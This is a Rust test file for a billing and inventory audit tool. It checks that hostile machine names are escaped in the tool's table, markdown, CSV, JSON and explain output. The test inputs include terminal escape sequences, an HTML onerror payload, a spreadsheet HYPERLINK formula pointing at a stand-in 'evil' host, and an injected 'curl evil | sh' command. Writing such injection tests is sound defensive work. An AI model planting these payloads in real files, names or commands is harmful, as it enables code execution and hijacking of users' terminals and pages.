//! Names that try to do something to whoever reads them.

use crate::support::{Folder, list};

const TERMINAL: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2Jtrainer";
const MARKUP: &str = "<img src=x onerror=alert(1)>|[a](javascript:b)`c`";
const FORMULA: &str = "=HYPERLINK(\"\"http://evil\"\",1)";
const ALL: &str = "audit --billing bill.csv --inventory inventory.csv --metrics metrics.csv";

/// A bundle whose idle machine has this name, as written in CSV.
fn named(name: &str) -> Folder {
    let folder = Folder::with_bundle();
    folder.replace("inventory.csv", "forgotten-trainer", &format!("\"{name}\""));
    folder
}

fn report(folder: &Folder, format: &str) -> String {
    folder.run(&format!("{ALL} --format {format}")).done()
}

/// The only finding about the idle machine.
fn fingerprint(folder: &Folder) -> String {
    let report: serde_json::Value = serde_json::from_str(&report(folder, "json")).unwrap();
    let idle = list(&report["findings"]).iter().find(|finding| finding["rule"] == "gpu-idle");
    idle.unwrap()["fingerprint"].as_str().unwrap().to_owned()
}

#[test]
fn escapes_never_reach_a_terminal_or_a_page() {
    let folder = named(TERMINAL);
    let explained = folder.run(&format!("{ALL} --explain {}", fingerprint(&folder))).done();
    let wide = folder.run(&format!("{ALL} --wide")).done();
    let reports =
        ["table", "markdown", "csv", "json", "ndjson"].map(|format| report(&folder, format));
    for text in reports.iter().chain([&explained, &wide]) {
        let control = text.chars().find(|char| char.is_control() && *char != '\n' && *char != '\r');
        assert_eq!(control, None, "{text}");
        assert!(text.contains("trainer"));
    }
}

#[test]
fn json_shows_escapes_as_pictures_of_them() {
    let folder = named(TERMINAL);
    let report: serde_json::Value = serde_json::from_str(&report(&folder, "json")).unwrap();
    let idle = list(&report["findings"]).iter().find(|finding| finding["rule"] == "gpu-idle");
    assert_eq!(idle.unwrap()["subject"]["name"], "␛]0;pwned␇␛[2Jtrainer");
}

#[test]
fn markup_stays_text_in_markdown() {
    let text = report(&named(MARKUP), "markdown");
    let row = text.lines().find(|line| line.contains("gpu-idle")).unwrap();
    assert!(!row.contains("<img"), "{row}");
    assert!(!row.contains("[a]("), "{row}");
    // Ten columns have eleven bars, and those of the name are escaped.
    let bars = row.replace("\\|", "").replace("&#124;", "").matches('|').count();
    assert_eq!(bars, 11, "{row}");
}

#[test]
fn a_formula_stays_text_in_a_spreadsheet() {
    let text = report(&named(FORMULA), "csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let column = reader.headers().unwrap().iter().position(|name| name == "name").unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let name = rows.iter().map(|row| &row[column]).find(|name| name.contains("HYPERLINK"));
    assert_eq!(name, Some("'=HYPERLINK(\"http://evil\",1)"));
    let starts_formula = |cell: &str| cell.starts_with(['=', '+', '@', '\t', '\r']);
    assert!(!rows.iter().any(|row| row.iter().any(starts_formula)));
}

#[test]
fn the_command_to_change_something_holds_no_command_of_others() {
    let folder = named("x; curl evil | sh");
    let text = folder.run(&format!("{ALL} --explain {}", fingerprint(&folder))).done();
    let (_, change) = text.split_once("The change\n").unwrap();
    assert!(!change.contains("; curl"), "{change}");
}
